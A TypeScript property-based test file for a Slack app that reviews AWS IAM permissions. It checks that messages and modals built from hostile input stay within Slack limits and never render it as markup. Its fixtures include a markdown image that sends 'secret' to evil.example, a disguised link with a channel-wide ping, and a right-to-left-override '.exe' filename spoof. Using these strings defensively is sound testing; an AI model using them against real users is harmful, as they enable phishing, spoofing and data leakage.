import fc from 'fast-check';
import { expect, it } from 'vitest';
import type { Statement } from '../../../src/needs/statements.js';
import { spotsToAnswer } from '../../../src/review/blind-spots.js';
import type { ReviewEvent } from '../../../src/review/review.js';
import { messageViolations, viewViolations } from '../../../src/slack/kit/validate.js';
import { homeItems, homeView } from '../../../src/slack/messages/home.js';
import { messagesOf } from '../../../src/slack/messages/index.js';
import { breakGlassModal } from '../../../src/slack/modals/approve-modals.js';
import { attestModal } from '../../../src/slack/modals/attest-modal.js';
import { leaveOutCallerModal } from '../../../src/slack/modals/caller-modal.js';
import { evidenceModal } from '../../../src/slack/modals/evidence-modal.js';
import { leaveOutModal, questionModal } from '../../../src/slack/modals/other-modals.js';
import { refusedAdditionsModal } from '../../../src/slack/modals/refused-additions.js';
import { scopeModal } from '../../../src/slack/modals/scope-modal.js';
import { sentModal } from '../../../src/slack/modals/sent-modal.js';
import { splitModal } from '../../../src/slack/modals/split-modal.js';
import { spotModal } from '../../../src/slack/modals/spot-modal.js';
import { startModal } from '../../../src/slack/modals/start-modal.js';
import { filesAsMessages } from '../../../src/slack/outbox/files-as-messages.js';
import {
  activity,
  contract,
  DANA,
  events,
  fold,
  lives,
  opened,
  question,
  report,
  statements,
  viewOf,
} from '../a-review.js';

const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 300 }),
  fc.constantFrom(
    '<!channel> <@U1> <https://evil.example|AWS console>',
    '![x](https://evil.example/?q=secret)',
    '`code` *bold* _it_ ~no~ ```block```',
    '\u202egnp.exe\u0000\u200b',
    '',
    '   ',
    'x'.repeat(5_000),
  ),
);
const arn = fc.oneof(hostile, fc.constant(`arn:aws:s3:::${'a'.repeat(1_590)}`));

const statement = fc.record({
  purpose: hostile,
  doubt: fc.option(hostile, { nil: undefined }),
  actions: fc.array(hostile, { minLength: 1, maxLength: 80 }),
  scopeable: fc.boolean(),
  risk: fc.constantFrom<Statement['risk']>('low', 'medium', 'high'),
  resources: fc.array(arn, { minLength: 1, maxLength: 40 }),
  label: hostile,
  allowsMore: hostile,
  candidates: fc.integer({ min: 1, max: 8 }),
  decided: fc.constantFrom('no', 'candidate', 'custom', 'left-out'),
  reason: hostile,
});

type Parts = typeof statement extends fc.Arbitrary<infer T> ? T[] : never;

function build(given: Parts) {
  const made = given.map(
    (part, index): Statement => ({
      ...statements[0]!,
      id: `s${index}`,
      sid: `S${index}`,
      purpose: part.purpose,
      ...(part.doubt === undefined ? {} : { doubt: part.doubt }),
      actions: part.actions,
      scopeable: part.scopeable,
      risk: part.risk,
      conditions: { StringEquals: { [part.label]: [part.allowsMore] } },
      candidates: Array.from({ length: part.candidates }, (_, at) => ({
        ...statements[0]!.candidates[0]!,
        id: String.fromCharCode(65 + at),
        label: part.label,
        resources: part.resources,
        allowsMore: part.allowsMore,
      })),
      suggested: 'A',
      suggestion: part.label,
    }),
  );
  const decisions = given.flatMap((part, index): ReviewEvent[] => {
    if (part.decided === 'no') return [];
    const choice =
      part.decided === 'candidate'
        ? { kind: 'candidate' as const, candidate: 'A' }
        : part.decided === 'custom'
          ? { kind: 'custom' as const, resources: part.resources, reason: part.reason }
          : { kind: 'left-out' as const, reason: part.reason };
    return [{ type: 'scope-chosen', statement: `s${index}`, choice, by: 'U0DANA', at: '2026-11-23T09:11:00Z' }];
  });
  const index = made.map(({ id, sid }) => ({ id, sid, candidates: 'ABCDEFGH', suggested: 'A', bulk: true }));
  return { made, decisions, index };
}

it('a hostile review displays within the limits, and nothing in it becomes markup', () => {
  fc.assert(
    fc.property(fc.array(statement, { minLength: 1, maxLength: 12 }), hostile, (parts, text) => {
      const { made, decisions, index } = build(parts);
      const name = 'r'.repeat(64);
      const review = fold(
        { ...opened, requestedAs: name } as ReviewEvent,
        {
          ...events.found,
          principal: { kind: 'role', arn: `arn:aws:iam::111122223333:role/${name}` },
          accountLabel: text.slice(0, 60),
        },
        events.read,
        { ...events.drafted, statements: index },
        decisions,
        { ...events.checked, blocking: 1 },
        { type: 'failed', stage: 'checking', reason: text, advice: text, at: '2026-11-23T09:11:00Z', tries: 1 },
      );
      const view = viewOf(review, {
        contract: { ...contract, questions: [{ ...question, text, name: text, source: text, likelyActions: [text] }] },
        draft: {
          author: 'rules',
          fallback: text,
          attempts: 1,
          refused: [],
          statements: made,
          doubts: Array(20).fill(text),
        },
        report: {
          ...report,
          findings: Array.from({ length: 30 }, (_, at) => ({
            ...report.findings[0]!,
            statementId: `s${at}`,
            message: text,
            advice: text,
            link: text,
          })),
          notRun: [{ source: 'simulator', why: text, advice: text }],
        },
        progress: { text, at: '' },
        turns: [
          {
            id: 't1',
            by: text,
            question: text,
            at: text,
            messageTs: '1',
            answer: {
              text,
              used: Array(30).fill({ tool: 'calls', summary: text }),
              author: 'model',
              statementId: 's0',
            },
          },
        ],
        denialReads: [
          {
            id: 'd1',
            by: 'U1',
            at: text,
            read: {
              window: { from: '2026-11-01', to: '2026-11-02' },
              source: text,
              denials: Array(40).fill({
                source: text,
                name: text,
                action: text,
                resource: text,
                cause: 'unknown',
                calls: 1,
                callIds: [],
                firstSeen: text,
                lastSeen: text,
              }),
            },
          },
        ],
      });
      for (const message of messagesOf(view, { reviewers: text })) {
        if (!message.files) expect(messageViolations(message), message.slot).toEqual([]);
        expect(message.text).not.toMatch(/<[^!@]|<!channel|<@U1>/);
        expect(JSON.stringify(message.blocks)).not.toMatch(
          /"type":"(image|markdown)"|"url":"(?!https:\/\/(docs|console)\.aws)/,
        );
        expect(
          markupIn(message.blocks).filter((text) => !/^(<@[A-Z0-9]+>|<!date\^[^>]*>|Tighten|[^<>]*)$/.test(text)),
        ).toEqual([]);
      }
      for (const item of made) {
        expect(
          viewViolations(
            scopeModal(view, item, {
              picked: 'custom',
              faster: { by: 'U0LEE', at: '2026-11-23T09:20:00Z', what: text },
            }),
          ),
        ).toEqual([]);
      }
      expect(viewViolations(questionModal(view, view.contract!.questions[0]!))).toEqual([]);
      expect(
        viewViolations(homeView(homeItems([review], { user: 'U0DANA', mayReview: () => true }), new Map())),
      ).toEqual([]);
    }),
    { numRuns: 60 },
  );
});

function markupIn(value: unknown): string[] {
  if (Array.isArray(value)) return value.flatMap(markupIn);
  if (typeof value !== 'object' || value === null) return [];
  if ('type' in value && value.type === 'mrkdwn' && 'text' in value) return [String(value.text)];
  return Object.values(value).flatMap(markupIn);
}

it('sixty statements and five hundred questions display, the questions as they are answered', () => {
  const many = Array.from({ length: 60 }, (_, index) => ({
    ...statements[index % 3]!,
    id: `s${index}`,
    sid: `S${index}`,
  }));
  const questions = Array.from({ length: 500 }, (_, index) => ({ ...question, id: `q${index}` }));
  const ids = questions.map((item) => item.id);
  const drafted = {
    ...events.drafted,
    statements: many.map(({ id, sid }) => ({ id, sid, candidates: 'AB', suggested: 'A', bulk: true })),
    questions: ids,
  };
  const show = (...more: ReviewEvent[]) =>
    messagesOf(
      viewOf(fold(opened, events.found, events.read, drafted, more), {
        contract: { ...contract, questions },
        draft: { author: 'rules', attempts: 0, refused: [], statements: many, doubts: [] },
      }),
    );
  const before = show();
  expect(before.filter((message) => message.slot.startsWith('questions')).length).toBe(5);
  expect(before.filter((message) => message.slot.startsWith('statements')).length).toBeGreaterThan(14);
  const six = before.find((message) => message.slot === 'questions:1')!;
  const answered = ids
    .filter((id) => JSON.stringify(six.blocks).includes(`|${id}|`))
    .map(
      (id): ReviewEvent => ({
        type: 'question-answered',
        question: id,
        answer: { kind: 'nothing-needed' },
        by: 'U0DANA',
        at: '',
      }),
    );
  expect(answered).toHaveLength(6);
  expect(show(...answered).filter((message) => message.slot.startsWith('questions')).length).toBe(6);
  for (const message of before) expect(messageViolations(message)).toEqual([]);
  expect(lives.scoping().review.id).toBe('r1');
});

/** Everything that a review can show beside its statements, many times and made of this text. */
function everything(text: string, count: number) {
  const many = <T>(make: (at: number) => T) => Array.from({ length: count }, (_, at) => make(at));
  const at = '2026-11-23T09:11:00Z';
  const blindSpots = many((n) => ({
    id: `spot-${n}`,
    title: text,
    consequence: text,
    ...(n % 2 === 0 ? { pointed: true as const } : {}),
  }));
  const questions = many((n) => ({
    ...question,
    id: `q${n}`,
    text,
    name: text,
    source: text,
    likelyActions: Array(count > 100 ? 2 : 30).fill(text),
  }));
  const added = many(
    (n): ReviewEvent => ({
      type: 'attested',
      attestation: {
        id: `a${n}`,
        action: text.slice(0, 200),
        resources: [text, `${text}2`],
        reason: 'undo',
        note: text,
      },
      by: n % 2 === 0 ? DANA : text,
      at,
    }),
  );
  const review = fold(
    { ...opened, requestedAs: text } as ReviewEvent,
    {
      ...events.found,
      principal: { kind: 'role', arn: `arn:aws:iam::111122223333:role/${'r'.repeat(64)}` },
      accountLabel: text,
    },
    events.read,
    { ...events.drafted, questions: questions.map(({ id }) => id), spots: spotsToAnswer(blindSpots).ids },
    added,
    [
      {
        type: 'question-answered',
        question: 'q0',
        answer: { kind: 'action', action: text, resources: [text] },
        by: text,
        at,
      },
    ],
    [{ type: 'questions-left-out', questions: ['q1'], reason: text, by: text, at }],
    { type: 'blind-spot-answered', spot: 'spot-0', answer: 'not-used', by: text, at },
    { type: 'policy-kept', policy: `inline:${text}`, keep: true, by: text, at },
    { type: 'denials-asked', id: 'd1', by: text, at, window: { from: text, to: text } },
  );
  const [caller] = activity.callers;
  const callers = many((n) => ({ ...caller!, id: `k${n}`, session: text, agent: text, network: text }));
  const usage = {
    calls: count,
    needs: {},
    callers,
    assumedBy: {
      first: many(() => ({ who: text, type: text, sessions: 3, firstSeen: text, lastSeen: text }))
        .slice(0, 5)
        .slice(0, 5),
      more: 9,
    },
  };
  const calls = many((n) => ({
    ...activity.calls[0]!,
    name: text,
    source: text,
    parameters: { at: n },
    callers: callers.map(({ id }) => id),
    resources: [{ arn: text }],
    firstEventId: text,
  }));
  const policies = many((n) => ({ kind: 'inline' as const, name: `${text}${n}`, awsManaged: false, document: text }));
  const view = viewOf(
    { ...review, callersLeftOut: { k1: { by: text, reason: text, at } }, brokenGlass: [], admin: true },
    {
      contract: { ...contract, questions, blindSpots },
      usage: usage as never,
      baseline: { ...lives.scoping().baseline!, policies },
      report: {
        ...report,
        replay: { ...report.replay, refused: many(() => ({ callId: 'c', action: text, resource: text, calls: 1 })) },
        findings: many(() => ({ ...report.findings[0]!, message: text, advice: text, code: text })),
        notRun: many(() => ({ source: 'simulator' as const, why: text, advice: text })),
      },
      delivery: {
        ...lives.delivered().delivery!,
        files: [{ name: text || 'x', content: text, language: 'json' }],
        sizes: many(() => ({ name: text, size: 1, limit: 2 })),
        openedBy: many(() => text),
      },
    },
  );
  const delivered = lives.delivered().review;
  const handedOver = {
    ...view,
    stage: 'approved' as const,
    review: {
      ...delivered,
      brokenGlass: [
        { by: text, at: text, edition: 'e', reason: text, ticket: text, waived: { approvals: 1, fourEyes: true } },
      ],
      applied: many(() => ({ id: 'x', change: 'attach' as const, by: text, at, since: at, until: at, missing: text })),
    },
  };
  const checked = {
    ...view,
    review: { ...review, check: lives.approving().review.check!, lastChange: { revision: 5, by: text, at } },
  };
  const calling = { ...activity, calls: calls as typeof activity.calls, callers };
  const long = { ...statements[0]!, purpose: text, actions: many((n) => `${text}${n}`) };
  const modals = [
    evidenceModal(
      {
        ...view,
        contract: { ...contract, needs: contract.needs.map((one) => ({ ...one, callIds: calls.map(({ id }) => id) })) },
      },
      statements[0]!,
      calling,
    ),
    startModal({
      windowDays: 400,
      channel: text.replace(/[^A-Za-z0-9]/g, '').slice(0, 20),
      searchable: true,
      picked: 'custom',
    }),
    leaveOutCallerModal(view, callers[0]!, calling),
    attestModal(view, text),
    breakGlassModal(checked, text, 3),
    splitModal(view, long),
    leaveOutModal(view, long, { by: text, at: text, what: text }),
    refusedAdditionsModal('r1', {
      ...view.draft!,
      model: text,
      refused: many(() => ({ attempt: 1, kind: 'not-json' as const, what: text })),
    }),
    sentModal('r1', text.repeat(20)),
    spotModal(view, 'spot-0', {
      title: text,
      because: text,
      parts: many(() => ({ actions: ['s3:GetObject'], form: text })).slice(0, 20),
    }),
    ...questions.slice(0, 3).map((one) => questionModal(view, one, { by: text, at: text, what: text })),
  ];
  return { views: [view, handedOver, checked], modals };
}

function holds({ views, modals }: ReturnType<typeof everything>): void {
  for (const view of views) {
    for (const message of messagesOf(view, { reviewers: view.review.requestedAs, breakGlass: true })) {
      const shown = message.files ? filesAsMessages(message) : [message];
      for (const one of shown) {
        expect(messageViolations(one), one.slot).toEqual([]);
        expect(
          markupIn(one.blocks).filter((text) => !/^(<@[A-Z0-9]+>|<!date\^[^>]*>|Tighten|[^<>]*)$/.test(text)),
        ).toEqual([]);
      }
    }
  }
  for (const modal of modals) expect(viewViolations(modal), modal.callback_id).toEqual([]);
}

it('questions, added permissions, callers, blind spots, policies of today, checks, delivery and forms made of hostile text stay within the limits', () => {
  fc.assert(
    fc.property(hostile, fc.constantFrom(1, 2, 13), (text, count) => holds(everything(text, count))),
    { numRuns: 40 },
  );
});

it('sixty statements with ARNs of 1,600 characters, five hundred of everything else and a role name of 64 characters display', {
  timeout: 60_000,
}, () => {
  const long = (n: number) => `arn:aws:s3:::${String(n).padEnd(1_587, 'a')}`;
  holds(everything(long(1), 500));
  const many = Array.from({ length: 60 }, (_, n) => ({
    ...statements[n % 3]!,
    id: `s${n}`,
    sid: `S${n}`,
    candidates: [{ ...statements[0]!.candidates[0]!, resources: [long(n), long(n + 100), long(n + 200)] }],
    suggested: 'A',
  }));
  const index = many.map(({ id, sid }) => ({ id, sid, candidates: 'A', suggested: 'A', bulk: true }));
  const review = fold(opened, events.found, events.read, { ...events.drafted, statements: index });
  const view = viewOf(review, { draft: { author: 'rules', attempts: 0, refused: [], statements: many, doubts: [] } });
  const messages = messagesOf(view);
  for (const message of messages) if (!message.files) expect(messageViolations(message), message.slot).toEqual([]);
  for (const one of many) expect(viewViolations(scopeModal(view, one, { picked: 'custom' })), one.id).toEqual([]);
  const file = messages.flatMap(({ files = [] }) => files).find(({ name }) => name.startsWith('review-details'));
  for (let n = 0; n < 60; n += 1) expect(file?.content).toContain(long(n + 200));
});
